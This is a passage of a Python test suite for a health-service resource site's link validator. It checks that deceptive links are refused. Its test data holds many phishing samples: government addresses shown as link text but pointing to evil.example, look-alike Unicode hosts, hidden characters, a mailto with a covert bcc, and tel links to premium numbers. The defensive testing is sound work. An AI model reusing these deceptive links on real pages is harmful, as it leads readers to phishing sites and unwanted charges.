    """The fourth attacker: a programme's name came back into an about page's
    Markdown through `term_link`, so `[sign in](https://…)` became a link
    and `**now**` bold; with an image in it the build failed, blaming the
    page's first line."""
    from selectolax.lexbor import LexborHTMLParser
    project = tmp_path / "p"
    shutil.copytree(built_project, project, symlinks=True)
    # (Addresses to go to would be refused in a name; Markdown links to pages here are not addresses.)
    hostile = "Carers [in](../evil/login.md) **now** ![x](../evil/pic.png) `c` _e_"
    programmes = project / "vocabulary" / "programmes.yml"
    text = programmes.read_text(encoding="utf-8")
    programmes.write_text(text.replace("name: Unpaid Carers Improvement Programme", f"name: '{hostile}'"), encoding="utf-8")
    assert hostile in programmes.read_text(encoding="utf-8")
    write_files(project, {"deeper-dives/carers.md": GOOD.replace("programmes: []", "programmes: [unpaid-carers]")
                          if "programmes: []" in GOOD else GOOD})
    result = build(project)
    assert result.returncode == 0, result.stderr[-3000:]
    for page in (project / "site").rglob("*.html"):
        tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
        for node in tree.css("[href], [src]"):
            address = node.attributes.get("href") or node.attributes.get("src") or ""
            # (A report-a-problem mailto quotes the page's name, encoded: it links nowhere.)
            assert "evil/" not in address or address.startswith("mailto:"), (page, node.html)
    about = LexborHTMLParser((project / "site" / "about" / "programmes" / "index.html").read_text(encoding="utf-8"))
    assert hostile in about.body.text(), "the name is shown as written"


# --- Links that say one address and go to another (twelfth attacker) ------------

MISLEADING = [  # (line of the body, the problem's text)
    ("Read [https://www.gov.scot/publications/carers](https://evil.example/gov-scot-login) now.",
     "[misleading-link] the link's text shows `www.gov.scot`, but it goes to `https://evil.example/gov-scot-login`"),
    ('Or <a href="https://evil.example/nhs" title="Sign in">https://login.nhs.scot</a> here.',
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/nhs`"),
    ('A [sign-in page](https://evil.example/t "https://login.nhs.scot") too.',
     "[misleading-link] the link's tooltip shows `login.nhs.scot`, but it goes to `https://evil.example/t`"),
    ("By reference [**www.nhs.scot**][nhs] too.",
     "[misleading-link] the link's text shows `nhs.scot`, but it goes to `https://nhs.scot.evil.example/`"),
    ("Email [his.strategicplanning@nhs.scot](mailto:evil@evil.example).",
     "[misleading-link] the link's text shows `his.strategicplanning@nhs.scot`, but it goes to `mailto:evil@evil.example`"),
    # Thirteenth attacker: what is drawn as nothing, or as a `.` or `:`, is read as the reader reads it.
    ("Go to [https://www.nhs\u200b.scot/login](https://evil.example/z).",
     "[misleading-link] the link's text shows `www.nhs.scot`, but it goes to `https://evil.example/z`"),
    ('Or <a href="https://evil.example/f">https\uff1a//login.nhs\u2024scot</a> here.',
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/f`"),
    ("And [sign in at login.nhs.scot today](https://evil.example/w).",
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/w`"),
    # Fifteenth attacker: a combining grapheme joiner, drawn as nothing, before the scheme.
    ("Then [\u034fhttps://www.nhs.scot/sign-in](https://evil.example/v) and [b\u00fccher.de](https://b\u00fccher.de/).",
     "[misleading-link] the link's text shows `www.nhs.scot`, but it goes to `https://evil.example/v`"),
    # Sixteenth attacker: a picture's alt text is the link's name; a tooltip on what is in a link shows over it.
    ("A picture [![https://login.nhs.scot/sign-in](files/pic.png)](https://evil.example/p) here.",
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/p`"),
    ('And [<span title="https://login.nhs.scot/sign-in">your account</span>](https://evil.example/s) too.',
     "[misleading-link] a tooltip shows `login.nhs.scot`: only a link's own tooltip may show an address"),
    # Seventeenth attacker: a name before `@` that the browser skips; a copy sent unseen.
    ("Go [https://login.nhs.scot@evil.example/](https://evil.example/u) now.",
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/u`"),
    ("Mail [his.strategicplanning@nhs.scot](mailto:his.strategicplanning@nhs.scot?bcc=c@evil.example) now.",
     "[misleading-link] the link's text shows `his.strategicplanning@nhs.scot`, but it goes to "
     "`mailto:his.strategicplanning@nhs.scot?bcc=c@evil.example`"),
    # Eighteenth attacker: hair spaces, drawn as next to nothing, split the address into words.
    ("Sign in [https:\u200a//login\u200a.nhs\u200a.scot/sign-in](https://evil.example/h) here.",
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/h`"),
    # Nineteenth attacker: links side by side, or text running into one, read as one word.
    ("Visit [www](https://evil.example/w1)[.nhs.scot/](https://evil.example/w2) today.",
     "[misleading-link] the link's text shows `nhs.scot`, but it goes to `https://evil.example/w1`"),
    ("Open https://login.nhs.scot/[sign-in](https://evil.example/e) today.",
     "[misleading-link] the link's text shows `login.nhs.scot`, but it goes to `https://evil.example/e`"),
    ("Then [nhs<span>.</span>scot](https://evil.example/i) too.",
     "[misleading-link] the link's text shows `nhs.scot`, but it goes to `https://evil.example/i`"),
    # Twentieth round: middle dots, taken for a full stop at a glance.
    ("Or [www.nhs\u00b7scot](https://evil.example/m) here.",
     "[misleading-link] the link's text shows `nhs.scot`, but it goes to `https://evil.example/m`"),
    # Twentieth round: letters and stops of other scripts drawn like Latin ones (Lisu `ꓸ`, modifier colon `꞉`).
    ("See [https\ua789//www\ua4f8gov\ua4f8scot/login](https://evil.example/g) now.",
     "[misleading-link] the link's text shows `www.gov.scot`, but it goes to `https://evil.example/g`"),
    # Twenty-first round: a dot Unicode draws like `·` (U+1427), and a number that dials another.
    ("Or [www\u1427gov\u1427scot](https://evil.example/d) today.",
     "[misleading-link] the link's text shows `gov.scot`, but it goes to `https://evil.example/d`"),
    ("Call [0131 623 4300](tel:+449098790000) for the team.",
     "[misleading-link] the link's text shows the number `0131 623 4300`, but it goes to `tel:+449098790000`"),
    # Twenty-second round: marks stuck to an address, any dash between digits, a short number.
    ("See [\u00abhttps://www.gov.scot/\u00bb](https://evil.example/q1) now.",
     "[misleading-link] the link's text shows `www.gov.scot`, but it goes to `https://evil.example/q1`"),
    ("Ring [0131\u2013623\u20134300](tel:+449098790000) today.",
     "[misleading-link] the link's text shows the number `0131-623-4300`, but it goes to `tel:+449098790000`"),
    ("Or [NHS 24: 111](tel:+449098790000) at night.",
     "[misleading-link] the link's text shows the number `111`, but it goes to `tel:+449098790000`"),
    # Twenty-fourth round: dingbat digits, a number on a link that dials nothing, a number in a
    # tooltip on what is not a link, a target with spaces.
    ("Dial [\u2776\u2778\u2776 \u277b\u2777\u2778 \u2779\u2778\u24ff\u24ff](tel:+449098790000) now.",
     "[misleading-link] the link's text shows the number `131 623 4300`, but it goes to `tel:+449098790000`"),
    ("Or [0131 623 4300](https://evil.example/call) today.",
     "[misleading-link] the link's text shows the number `0131 623 4300`, but it goes to `https://evil.example/call`"),
    ('And <a href="tel:+449098790000"><span title="0131 623 4300">Call our helpline</span></a> too.',
     "[misleading-link] a tooltip shows `0131 623 4300`: only a link's own tooltip may show an address"),
    ("Then [0131 623 4300](tel:+44 9098790000) please.",
     "[misleading-link] the link's text shows the number `0131 623 4300`, but it goes to `tel:+44 9098790000`"),
    # Twenty-sixth round: a number beside right-to-left letters is drawn with its groups the other way round;
    # a second phone number beside the one dialled.
    ("Ring [\u05d8\u05dc\u05e4\u05d5\u05df 0909 879 0131](tel:09098790131) now.",
     "[misleading-link] the link's text shows the number `0131 879 0909`, but it goes to `tel:09098790131`"),
    ("Or [Freephone 0800 22 44 88 (or 0909 879 0000 from abroad)](tel:09098790000) too.",
     "[misleading-link] the link's text shows the number `0800 22 44 88`, but it goes to `tel:09098790000`"),
    # Twenty-third round: an address spelled out.
    ("Write to [enquiries at gov dot scot](mailto:someone@evil.example) today.",
     "[misleading-link] the link's text shows `enquiries@gov.scot`, but it goes to `mailto:someone@evil.example`"),
    # Thirty-first round: a number the text says to call, a North American number, an address by number in IPv6.
    ("In an emergency [Ring 999](https://evil.example/r) now.",
     "[misleading-link] the link's text shows the number `999`, but it goes to `https://evil.example/r`"),
    ("Or [1-800-555-0100](https://evil.example/n) too.",
     "[misleading-link] the link's text shows the number `1-800-555-0100`, but it goes to `https://evil.example/n`"),
    ("Or [2001:db8::1](https://evil.example/6) too.",
     "[misleading-link] the link's text shows `2001:db8::1`, but it goes to `https://evil.example/6`"),
]
HONEST = ("[https://www.gov.scot/publications/x](https://www.gov.scot/publications/y), [gov.scot](https://publications.gov.scot/z),"
          " [report.pdf](https://www.gov.scot/r.pdf), [Carers strategy (gov.scot)](https://www.gov.scot/c),"
          " <https://www.nhs.scot/>, [his.strategicplanning@nhs.scot](mailto:his.strategicplanning@nhs.scot?subject=Hi)"
          " and [NHS inform](https://www.nhsinform.scot/ \"www.nhsinform.scot\"),"
          " [Call NHS 24 on 111, open 24/7](tel:111), [0131 623 4300 ext 210](tel:+441316234300;ext=210),"
          " [NHS 24 (0131 623 4300)](tel:+441316234300), [NHS 24 (111)](https://www.nhs24.scot/),"
          " [Call for evidence 2024](https://consult.gov.scot/) and [ISBN 978-0-12-345678-9](https://www.gov.scot/b).")


def misleading_project(path: Path) -> tuple[Path, int]:
    text = GOOD.replace("status: current", "status: current\ndownloads:\n  - file: files/a.csv\n    label: www.nhs.scot")
    first = text.count("\n") + 2
    body = "\n\n".join([line for line, _ in MISLEADING] + [HONEST, "[nhs]: https://nhs.scot.evil.example/"])
    project = make_project(path, content={A: text + "\n" + body + "\n", "at-a-glance/files/a.csv": "a,b\n",
                                          "at-a-glance/files/pic.png": real_png()})
    return project, first


def test_a_link_whose_text_reads_as_another_address_is_refused_at_its_line(tmp_path):
    project, first = misleading_project(tmp_path / "p")
    label_line = GOOD.split("\n").index("status: current") + 4
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        found = [line for line in result.stderr.splitlines() if "[misleading-link]" in line]
        assert result.returncode == 1 and "Traceback" not in result.stderr, (command, result.stderr[-2000:])
        for number, (_, says) in enumerate(MISLEADING):
            assert any(line.startswith(f"{A}:{first + 2 * number}:") and says in line for line in found), (
                command, says, found)
        assert any(line.startswith(f"{A}:{label_line}:") and "download 1's label shows `nhs.scot`" in line
                   for line in found), found
        # The honest links pass; the label is one more, and `[.nhs.scot/]` reads as an address on its own too.
        assert len(found) == len(MISLEADING) + 2, found
        assert "hint: Readers trust an address they can read" in result.stderr


# Twentieth round: each (line of the body, what is said there).
ROUND_20 = [
    ("See [guidance](https://www.g\u043ev.scot/x) now.",
     "[link-address] `https://www.g\u043ev.scot/x` goes to `www.g\u043ev.scot`, written with letters of another "
     "script that read as `www.gov.scot`"),
    ("Then [slides](https://user:pw@evil.example/s.pdf) too.",
     "[link-address] `https://user:pw@evil.example/s.pdf` has `user:pw@` before its host"),
    ("And [the recording](https://evil.example\\@www.youtube.com/watch) here.",
     "[link-address] `https://evil.example\\@www.youtube.com/watch` holds a backslash"),
    ("Or [this](https://[::1]:99999/x) there.", "[link-address] `https://[::1]:99999/x` has a port that is not"),
    # Twenty-second round: an autolink, which validate did not read.
    ("Or <https://g\u043ev.scot/login> here.", "[link-address] `https://g\u043ev.scot/login` goes to"),
    # Twenty-third round: text a reader cannot see, shrunk twice over or folded away in a link.
    ('See <a href="https://evil.example/www.gov.scot"><small><small><small>evil.example/</small></small></small>'
     "www.gov.scot</a> now.", "[misleading-link] `<small>` inside `<small>` draws text too small to read"),
    ('And <a href="https://www.gov.scot/">Guidance<details><summary>x</summary>y</details></a> too.',
     "[misleading-link] a `<details>` inside a link hides part of the link's text"),
    ("## www.gov.scot/login", "[misleading-link] the heading reads as the address `gov.scot`"),
    ("![chart](files/a.csv)", "[broken-link] `files/a.csv` is shown as a picture, but it is not an image"),
]
ADDRESS_CHECK = "            elif bad := links.address_problem(address):\n                report(bad[0], **bad[1])\n"
HIDDEN_CHECK = ("            if name in SHRINKING and sum(tag in SHRINKING for tag in stack) == 1:")
HEADING_CHECK = "        if shown := links.strong_address(text) or links.strong_number(text):\n            written ="


def test_the_twentieth_rounds_links_headings_and_values_are_refused_where_they_are(tmp_path):
    """Hosts in look-alike letters, names before `@`, backslashes and
    impossible ports in addresses; headings that read as an address (the
    text of a contents-list link); a picture that is a CSV; values made of
    characters drawn as nothing; a registration link in look-alike
    letters. Validate says each at its line; the build, with validate's
    address and heading checks switched off, reads the links and headings
    again from the HTML and says the same."""
    text = GOOD + "\n" + "\n\n".join(line for line, _ in ROUND_20) + "\n"
    first = GOOD.count("\n") + 2
    webinar = WEBINAR.format(url='"https://www.g\\u043ev.scot/register"')
    invisible = good(title='title: "\\u3164\\u3164\\u3164\\u3164\\u3164\\u3164"', owner='owner: "\\u00ad\\u00ad\\u00ad"')
    project = make_project(tmp_path / "p", content={A: text, "at-a-glance/files/a.csv": "a,b\n", W: webinar,
                                                    "deeper-dives/blank.md": invisible})
    expected = [(f"{A}:{first + 2 * number}:", says) for number, (_, says) in enumerate(ROUND_20)] + [
        (f"{W}:13:", "[link-address] `https://www.g\u043ev.scot/register`"),
        ("deeper-dives/blank.md:2:", "[bad-value] `title` shows nothing"),
        ("deeper-dives/blank.md:10:", "[bad-value] `owner` shows nothing")]
    result = run_cli(project, "validate")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-3000:]
    for where, says in expected:
        assert any(line.startswith(where) and says in line for line in result.stderr.splitlines()), (where, says,
                                                                                                    result.stderr)
    across = project / "hooks" / "resource_library" / "validate" / "across.py"
    assert ADDRESS_CHECK in across.read_text() and HEADING_CHECK in across.read_text()
    across.write_text(across.read_text().replace(ADDRESS_CHECK, "").replace(HEADING_CHECK, "        if False:\n            written ="))
    body = project / "hooks" / "resource_library" / "validate" / "body.py"
    assert HIDDEN_CHECK in body.read_text() and 'elif name == "details" and "a" in stack:' in body.read_text()
    body.write_text(body.read_text().replace(HIDDEN_CHECK, "            if False:").replace(
        'elif name == "details" and "a" in stack:', "elif False:"))
    (project / A).write_text(text.replace(ROUND_20[-1][0], ""))  # the PDF's own refusal is said at the body's top
    (project / W).unlink()
    (project / "deeper-dives" / "blank.md").unlink()
    result = build(project)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-3000:]
    # (The sanitiser drops an href no URL parser can read, port 99999: the link goes nowhere. In a
    # paragraph, a browser closes the paragraph at `<details>`, and the link with it: the text shown
    # in the link is then all its text, and that is read.)
    for where, says in [expected[n] for n in (0, 1, 2, 4, 5, 7)]:
        assert any(line.startswith(where) and says in line for line in result.stderr.splitlines()), (where, says,
                                                                                                    result.stderr)
    assert not (project / "site").exists()


VALIDATE_LINKS_OFF = ("    for resource in [*library.resources, *unpublishable]:\n        problems += _misleading_links(resource)\n")


def test_the_build_reads_every_link_again_from_the_html(tmp_path):
    """With validate's reading of links switched off, the build's own
    reading of the page's HTML refuses the same links, and a link that
    wears a heading's permalink class, at their lines."""
    project, first = misleading_project(tmp_path / "p")
    across = project / "hooks" / "resource_library" / "validate" / "across.py"
    assert VALIDATE_LINKS_OFF in across.read_text()
    across.write_text(across.read_text().replace(VALIDATE_LINKS_OFF, ""))
    body = project / "hooks" / "resource_library" / "validate" / "body.py"
    body.write_text(body.read_text().replace('WRITTEN_CLASSES = {**CLASSES, "a": set()}', "WRITTEN_CLASSES = CLASSES"))
    page = project / A
    page.write_text(page.read_text().replace("    label: www.nhs.scot", "    label: Data")
                    + '\nHidden <a class="headerlink" href="https://evil.example/x">x</a> here.\n'
                    + '\nA paragraph round [a link](https://evil.example/q)\n{: title="https://login.nhs.scot/p" }\n')
    result = build(project)
    found = [line for line in result.stderr.splitlines() if "[misleading-link]" in line]
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
    for number, (_, says) in enumerate(MISLEADING):
        assert any(line.startswith(f"{A}:{first + 2 * number}:") and says in line for line in found), (says, found)
    assert any("a link to `https://evil.example/x` has the class `headerlink`" in line for line in found), found
    last = len(page.read_text().splitlines())
    assert any(line.startswith(f"{A}:{last}:") and "a tooltip shows `login.nhs.scot`" in line for line in found), found
    assert not (project / "site").exists()


def test_hosts_are_compared_as_a_browser_looks_them_up():
    """Sixteenth attacker: Python's IDNA 2003 codec makes `straße.de` and
    `strasse.de` one host; Chromium (UTS #46, not transitional) keeps them
    apart, as `xn--strae-oqa.de` and `strasse.de`."""
    from resource_library import links
    assert links.misleading("https://straße.de/login", "https://strasse.de/login") == "straße.de"
    assert links.misleading("σοφος.gr", "https://σοφοσ.gr/") == "σοφος.gr"
    assert links.misleading("straße.de", "https://straße.de/") is None
    assert links.misleading("https://bücher.de", "https://xn--bcher-kva.de/") is None


def test_middle_dots_read_as_full_stops():
    """Twentieth round: a middle dot between labels is taken for a full stop
    at a glance, in every form Unicode has of it."""
    from resource_library import links
    for dot in "\u00b7\u0387\u2027\u2219\u22c5\u2e31\u2e33\u30fb\uff65\ua78f":
        assert links.misleading(f"login.nhs{dot}scot", "https://evil.example/") == "login.nhs.scot", hex(ord(dot))
        assert links.misleading(f"login.nhs{dot}scot", "https://login.nhs.scot/") is None, hex(ord(dot))


def test_hosts_in_look_alike_letters_are_told_from_honest_ones():
    """Twentieth round: a Cyrillic `о` in `gоv.scot`, or a label wholly of
    letters drawn like Latin ones, is another site that reads as this one;
    a name in its own script, or Latin with accents, is honest."""
    from resource_library import links
    assert links.look_alike_host("www.g\u043ev.scot") == "www.gov.scot"
    assert links.look_alike_host("www.xn--gv-fmc.scot") == "www.gov.scot"  # the same, written in punycode
    assert links.look_alike_host("xn--80ak6aa92e.com") is not None  # all Cyrillic, in punycode
    assert links.look_alike_host("\u0430\u0440\u0440\u04cf\u0435.com") is not None  # all Cyrillic, reads as Latin
    assert links.look_alike_host("m\u00fcnchen-\u0430.de") == "m\u00fcnchen-a.de"  # Latin and Cyrillic in one label
    for honest in ("b\u00fccher.de", "\u03c3\u03bf\u03c6\u03bf\u03c2.gr", "\u0441\u0430\u0439\u0442.\u0440\u0444",
                   "\u4e2d\u6587.com", "www.gov.scot", "xn--bcher-kva.de"):
        assert links.look_alike_host(honest) is None, honest
    assert links.shown_addresses("www\ua4f8gov\ua4f8scot/checklist") == ["gov.scot"]
    assert links.address_problem("mailto:his@nh\u0455.scot") == ("link-address/look-alike",
                                                                  {"host": "nh\u0455.scot", "seen": "nhs.scot"})
    assert links.address_problem("mailto:his.strategicplanning@nhs.scot?subject=Hi") is None
    for dot in "\u1427\u16eb\U00010101\u2022\u2e30\u0701\u0702\u0f0b\u05c5\u0323":
        assert links.misleading(f"www{dot}gov{dot}scot", "https://evil.example/") == "gov.scot", hex(ord(dot))
    for honest in ("0131 623 4300", "+44 (0)131 623 4300", "0044 131 623 4300", "Call us",
                   "\u06f0\u06f1\u06f3\u06f1 \u06f6\u06f2\u06f3 \u06f4\u06f3\u06f0\u06f0", "0131 623 4300 ext. 2"):
        target = "tel:+441316234300;ext=2" if "ext" in honest else "tel:+441316234300"  # an extension is shown
        assert links.misleading(honest, target) is None, honest
    assert links.misleading("NHS 24 on 111", "tel:111") is None
    assert links.misleading("Read it at gov dot scot", "https://www.gov.scot/x") is None
    assert links.misleading("Email us at info@carers.scot", "https://carers.scot/contact/") is None
    # Twenty-eighth round: an address by number, a domain many owners share, emphasis inside an address.
    assert links.misleading("10.0.0.1:8080/login", "https://evil.example/") == "10.0.0.1"
    assert links.misleading("localhost:8000", "https://evil.example/") == "localhost"
    assert links.misleading("Section 1.2.3.4", "https://www.gov.scot/") is None
    assert links.misleading("10.0.0.1", "https://evil.example/") == "10.0.0.1"  # thirtieth round
    assert links.misleading("github.io", "https://evil.github.io/") == "github.io"
    assert links.misleading(links.link_text("www.gov**.**scot"), "https://evil.example/") == "gov.scot"
    assert links.misleading("0131 623 4300 ext. 2", "tel:+441316234300,2") is None
    assert [found[0] for found in links.text_address_problems("Write to planning@g\u043ev.scot or info@carers.scot")] \
        == ["planning@g\u043ev.scot"]
    assert links.misleading("enquiries at gov dot scot", "mailto:enquiries@gov.scot") is None
    assert links.misleading("O131 623 43OO", "tel:+449098790000") == "0131 623 4300"
    # Thirty-first round: numbers a reader is told to call, or reads as a phone's or an address by number.
    assert links.misleading("Call us on 111", "https://www.nhs24.scot/") == "111"
    assert links.misleading("(800) 555-0100", "https://evil.example/") == "(800) 555-0100"
    assert links.misleading("::1", "https://evil.example/") == "::1"
    for honest in ("Call for evidence 2024", "Meeting at 10:30:00", "Phone survey 2023", "ISBN 978-0-12-345678-9"):
        assert links.misleading(honest, "https://www.gov.scot/") is None, honest
    assert links.misleading("Ring 999", "tel:999") is None
    # Forty-eighth round: a mailto may set a subject and a body, not where the answer or the message goes.
    for field in ("Reply-To=spy@evil.example", "from=spy@evil.example", "newsgroups=alt.test", "followup-to=x"):
        assert links.misleading("hscanalysis@gov.scot", f"mailto:hscanalysis@gov.scot?subject=Hi&{field}"), field
    assert links.misleading("hscanalysis@gov.scot", "mailto:hscanalysis@gov.scot?subject=Data%20request&body=Hi") is None
    # Forty-seventh round: a number that runs into a link across a space, in a line and in files' paragraphs.
    assert links.misleading_runs(links.line_segments("Call 0131 623[4300](https://example.org/e)")) == [
        ("0131 6234300", "https://example.org/e")]
    assert links.misleading_runs(links.line_segments("See [0131](https://x.example/) 623 4300")) == [
        ("0131 623 4300", "https://x.example/")]
    for honest in ("Ring [0131 623 4300](tel:+441316234300) today", "Table 3 [2024](https://www.gov.scot/)",
                   "Call 0131 623 [4300](tel:+441316234300)", "In 2024 [12 boards](https://www.gov.scot/) reported",
                   "Call 0800 123 4567 ([more](https://www.nhs24.scot/))"):
        assert links.misleading_runs(links.line_segments(honest)) == [], honest
    # Forty-third round: a service named between the word and the number, or the number first.
    for told in ("Call NHS 24 on 111", "Call Samaritans on 116 123", "111 - call free, day or night",
                 "Phone NHS 24: 111", "Call NHS 24 free on 111", "Call NHS 24 (111)", "Text Relay (18001)"):
        assert links.misleading(told, "https://example.org/"), told
    assert links.misleading("Call NHS 24 on 111", "tel:111") is None
    for honest in ("Call For Evidence: 2024 Results", "Phone Line Review: 360 responses", "Phone Survey 2023",
                   "Text Messaging Pilot: 2024 Evaluation", "Ring Road Scheme: 2024-2030", "2024 - call for evidence",
                   "NHS 24 annual report", "Call Centre Review on 2024 data", "Call NHS 24 (2024 report)"):
        assert links.misleading(honest, "https://www.gov.scot/") is None, honest
    # Thirty-second round: dates, times and fractions are not numbers to call; a date beside a number hides nothing.
    for honest in ("Annual report 01/04/2024 - 31/03/2025", "Results 2024-04-01 - 2025-03-31", "01.04.24 - 31.03.25",
                   "the figures for 01.04.2024-31.03.2025", "times 09.30 - 10.30 - 11.00", "Table 0.1234567890"):
        assert links.phone_number(honest) is None and links.misleading(honest, "https://www.gov.scot/") is None, honest
    assert links.phone_number("0131 623 4300 / 01.04.24") == "0131 623 4300"
    # Thirty-seventh round: a site path on a link that leaves the site; right-to-left beside a tel link's number.
    assert links.misleading("/about/", "https://evil.example/") == "/about/"
    from resource_library import sanitize
    from resource_library.docs_pages import render
    for body in ("Call the helpline on \u200f[0100 555 0131](tel:01005550131) today.",
                 "\u0647\u0627\u062a\u0641 [0100 555 0131](tel:01005550131)"):
        assert [found[1]["shown"] for found in sanitize.link_problems(sanitize.clean(render(body)).html)] == \
            ["0131 555 0100"], body
    assert sanitize.link_problems(sanitize.clean(render("Call [0131 623 4300](tel:+441316234300).")).html) == []
    # Thirty-fourth round: a path on this site as the text, to another page of it.
    assert links.misleading("/deeper-dives/whole-system-needs-assessment/", "../deeper-dives/planning-with-unpaid-"
                            "carers.md") == "/deeper-dives/whole-system-needs-assessment/"
    assert links.misleading("files/checklist.pdf", "files/other.pdf") == "files/checklist.pdf"
    for text, target in (("/deeper-dives/planning-with-unpaid-carers/", "../deeper-dives/planning-with-unpaid-carers.md"),
                         ("2024/25", "../x.md"), ("and/or", "x.md"), ("files/checklist.pdf", "files/checklist.pdf")):
        assert links.misleading(text, target) is None, text
    # A word is a bare address only when it ends in a top-level domain that exists: organisms, initials and
    # degrees with a full stop are not (`C.diff/MRSA` in a heading was refused); the ones kept for testing are.
    for honest in ("C.diff/MRSA outbreaks", "E.coli and St.John", "Ph.D/MSc routes"):
        assert links.strong_address(honest) is None and links.misleading(honest, "https://www.gov.scot/") is None, honest
    for address in ("nhs.scot/login", "evil.example/login", "intranet.nhs.uk/x", "gov.scot/x"):
        assert links.strong_address(address), address
    assert links.misleading("gov.scot", "https://evil.example/") == "gov.scot"
    assert links.misleading("carers.zip", "https://evil.example/") is None  # a file's name, as before
    # Forty-second round: what no address holds ends the one a reader reads.
    for shown, seen in (("https://www.nhs.uk[1]", "www.nhs.uk"), ("help@nhs.scot[1]", "help@nhs.scot"),
                        ("gov.scot.[1]", "gov.scot"), ("www.nhs.uk:443[1]", "nhs.uk")):
        assert links.misleading(shown, "https://evil.com/") == seen, shown
    assert links.strong_address("Visit https://www.nhs.uk[1]") == "www.nhs.uk"
    assert links.misleading("See note[1]", "https://evil.com/") is None
    assert links.address_problem("https://evil.com[1]")[0] == "link-address/host"
    assert links.address_problem("https://[::1]/x") is None and links.address_problem("https://[2001:db8::1]:8443/") is None
    # Thirty-ninth round: `https:` with no `//` is a page here to the hosted site and another site offline.
    assert links.address_problem("https:evil.example/guide") == ("link-address/slashes", {"scheme": "https"})
    assert [found[0] for found in sanitize.link_problems(sanitize.clean(render(
        "Read [the guidance](https:evil.example/guide).")).html)] == ["link-address/slashes"]
    # Thirty-ninth round: an escaped `[` makes a link text, whatever its target holds.
    assert [link.target for link in links.find_links("\\[x](<files/my file.csv>) \\\\[y](files/y.csv)")] == [
        "files/y.csv"]
    # Thirty-eighth round: keycaps and marks on digits, slashes between groups, right-to-left beside a number.
    keycaps = "".join(c + "\u20e3" if c.isdigit() else c for c in "0131 623 4300")
    hebrew = "\u05d8\u05dc\u05e4\u05d5\u05df"
    for shown in (keycaps, "0\u0332131 623 4300", "0131/623/4300", f"{hebrew} 4300 623 0131"):
        assert links.strong_number(shown) == "0131 623 4300", shown
        assert links.misleading(shown, "https://evil.example/") == "0131 623 4300", shown
    assert links.misleading(keycaps, "tel:+447700900123") == "0131 623 4300"
    for honest in ("Annual report 01/04/2024 - 31/03/2025", "2024/25 and 2025/26", f"{hebrew} 2024 2025",
                   "NHS 24/111", "Section 23/24"):
        assert links.strong_number(honest) is None, honest
    assert [found[1]["shown"] for found in sanitize.link_problems(sanitize.clean(render(
        f"{hebrew} [4300 623 0131](https://evil.example/)")).html)] == ["0131 623 4300"]
    # ...and addresses with no host, on a shared drive, behind a backslash, a query, a part or a port.
    for shown, seen in (("file:///C:/Users/Public/plan.docx", "file:///c:/users/public/plan.docx"),
                        ("\\\\nhs-share\\plans\\2025.docx", "\\\\nhs-share\\plans\\2025.docx"),
                        ("gov.scot\\login", "gov.scot"), ("C:\\Users\\x", "c:\\users\\x")):
        assert links.misleading(shown, "https://evil.example/") == seen, shown
        assert links.strong_address(f"Visit {shown}") == seen, shown
    for shown in ("evil.com?next=login", "evil.com#login", "evil.com:8080"):
        assert links.strong_address(f"Visit {shown}") == "evil.com", shown
    for honest in ("Visit gov.scot: details", "Is it gov.scot?", "and/or", "e.g. 10:30"):
        assert links.strong_address(honest) is None, honest


def test_a_webinars_title_names_its_buttons_so_it_may_name_only_their_site(tmp_path):
    """Seventeenth attacker: 'Webinar hosted at events.nhs.scot' named the
    Register button ("Register for ..."), which went to another site."""
    from resource_library.validate import check_project
    for url, refused in (("https://evil.example/register", True), ("https://events.nhs.scot/register", False)):
        text = WEBINAR.format(url=url).replace("title: A webinar", "title: Webinar hosted at events.nhs.scot")
        project = make_project(tmp_path / f"p{refused}", content={"webinars/hosted.md": text})
        found = [(p.line, p.message) for p in check_project(project)[1] if p.rule == "misleading-link"]
        assert found == ([(2, "the title shows `events.nhs.scot`, and names the button to "
                              "`https://evil.example/register` (registration_url)")] if refused else []), found


# Twenty-fifth round: what validate read line by line, and the build from the HTML.
ROUND_25 = [
    ("See [the guidance at\nwww.gov.scot/login](https://evil.example/a) now.",
     "[misleading-link] the link's text shows `gov.scot`, but it goes to `https://evil.example/a`"),
    ("Read [www.gov.scot][q] now.\n\n> [q]: https://evil.example/d",
     "[misleading-link] the link's text shows `gov.scot`, but it goes to `https://evil.example/d`"),
    ("Write to https://www.gov.scot@evil.example/x today.",
     "[link-address] `https://www.gov.scot@evil.example/x` has `www.gov.scot@` before its host"),
    ("A note.[^1]\n\n[^1]: See the strategy.", "[broken-link] `[^...]:` is a footnote"),
    # Twenty-seventh round: tones sent after the call is answered.
    ("Ring [0131 623 4300](tel:01316234300,,,666) now.",
     "[misleading-link] the link's text shows the number `0131 623 4300`, but it goes to `tel:01316234300,,,666`"),
    # Twenty-sixth round: a keypad's letters, and service codes.
    ("Call [Childline 0800 1111](tel:0800J1111) today.", "[link-address] `tel:0800J1111` dials more than a phone number"),
]


def test_the_twenty_fifth_rounds_links_are_read_by_validate_as_the_build_reads_them(tmp_path):
    """Link text over two lines, a reference defined in a quote, an
    address written as text (in a body, a summary and an editor's page), a
    footnote: validate says each at its line, as the build would."""
    text = GOOD + "\n" + "\n\n".join(block for block, _ in ROUND_25) + "\n"
    lines = text.split("\n")
    where = [lines.index(block.split("\n")[0]) + 1 for block, _ in ROUND_25]
    where[0] += 1  # said where its text ends and its target is
    where[3] = lines.index("[^1]: See the strategy.") + 1
    summary = good(summary='summary: "Register at https://www.gov.scot@evil.example/register for the event today"')
    topics = (REPO / "vocabulary" / "topics.yml").read_text(encoding="utf-8")
    first_description = next(line for line in topics.split("\n") if line.strip().startswith("description:"))
    topics = topics.replace(first_description, first_description.split(":")[0]
                            + ': "See https://www.gov.scot:443@evil.example/login for more"', 1)
    project = make_project(tmp_path / "p", content={
        A: text, "deeper-dives/summary.md": summary,
        "docs/privacy.md": "# Privacy\n\nRead [www.gov.scot][1] for more.\n\n[1]: https://evil.example/phish\n\n"
